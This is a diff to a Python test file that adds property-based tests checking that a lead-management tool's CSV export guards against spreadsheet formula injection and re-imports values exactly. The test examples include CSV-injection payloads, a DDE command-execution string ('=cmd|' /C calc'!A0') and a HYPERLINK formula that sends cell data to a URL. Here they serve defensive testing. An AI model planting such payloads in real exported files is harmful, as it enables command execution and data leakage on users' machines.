@@ -2,14 +2,21 @@
 
 from __future__ import annotations
 
+import csv
 import re
+import tempfile
 import xml.etree.ElementTree as ET
+from pathlib import Path
 
 from hypothesis import HealthCheck, assume, example, given, settings
 from hypothesis import strategies as st
 
-from leaddesk.fields import FIELDS, FieldProblem, Kind, LeadInvalid, clean_field
+from leaddesk.csv_import import read_leads_csv
+from leaddesk.export import HEADER, export_csv
+from leaddesk.fields import FIELD_NAMES, FIELDS, FieldProblem, Kind, LeadInvalid, clean_field
+from leaddesk.formula_guard import guarded, unguarded
 from leaddesk.lead import Lead
+from leaddesk.store import Store
 from leaddesk.us_states import STATE_NAMES
 from leaddesk.wire import build_document, parse_leads_document
 from tests.leads import MINIMAL
@@ -235,3 +242,51 @@ def test_numeric_fields_are_refused_or_sent_in_ascii_digits(name: str, text: str
         return
     kind = next(spec.kind for spec in FIELDS if spec.name == name)
     assert sent == "" or re.fullmatch(SENT_FORMAT[kind], sent), f"{name} sent as {sent!r}"
+
+
+# --- CSV export and import ----------------------------------------------------------------
+
+FORMULA_LIKE = st.lists(
+    st.one_of(st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", " "]), st.text()),
+    max_size=6,
+).map("".join)
+
+
+@SETTINGS
+@given(text=st.one_of(FORMULA_LIKE, ANY_TEXT))
+@example(text='=HYPERLINK("http://example.com/?"&A1,"Click")')
+@example(text="'=1+1")
+@example(text="'Tis fine")
+def test_a_guarded_cell_reads_back_exactly_and_never_starts_a_formula(text: str) -> None:
+    cell = guarded(text)
+    assert unguarded(cell) == text
+    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r")
+
+
+@settings(SETTINGS, max_examples=40)
+@given(name=st.sampled_from(FREE_TEXT), text=FORMULA_LIKE)
+@example(name="lead_comments", text="=cmd|' /C calc'!A0")
+@example(name="lead_callcenter_notes", text="- call after 5pm")
+def test_free_text_exported_to_csv_is_sent_again_exactly(name: str, text: str) -> None:
+    """Whatever a lead's free text holds, an exported file given to `leaddesk send` (with
+    the extra columns dropped) carries the lead's own values, formulas guarded or not."""
+    try:
+        lead = Lead.parse(MINIMAL | {name: text})
+    except LeadInvalid:
+        return
+    with tempfile.TemporaryDirectory() as temp:
+        folder = Path(temp)
+        with Store(folder / "history.sqlite3") as store:
+            [lead_id] = store.add_many([(lead, "https://example.com/leadpostxml.php")])
+            export_csv(store, [lead_id], folder / "export.csv")
+            kept = store.get(lead_id)  # with the lead ID the store gave it
+        assert kept is not None
+        with (folder / "export.csv").open(encoding="utf-8-sig", newline="") as file:
+            table = list(csv.reader(file))
+        start = len(HEADER) - len(FIELD_NAMES)
+        assert table[1][start + FIELD_NAMES.index(name)][:1] not in ("=", "+", "-", "@")
+        with (folder / "fields.csv").open("w", encoding="utf-8-sig", newline="") as file:
+            csv.writer(file).writerows(line[start:] for line in table)
+        again = read_leads_csv(folder / "fields.csv")
+    assert again.problems == []
+    assert [read.values() for _, read in again.leads] == [kept.lead.values()]
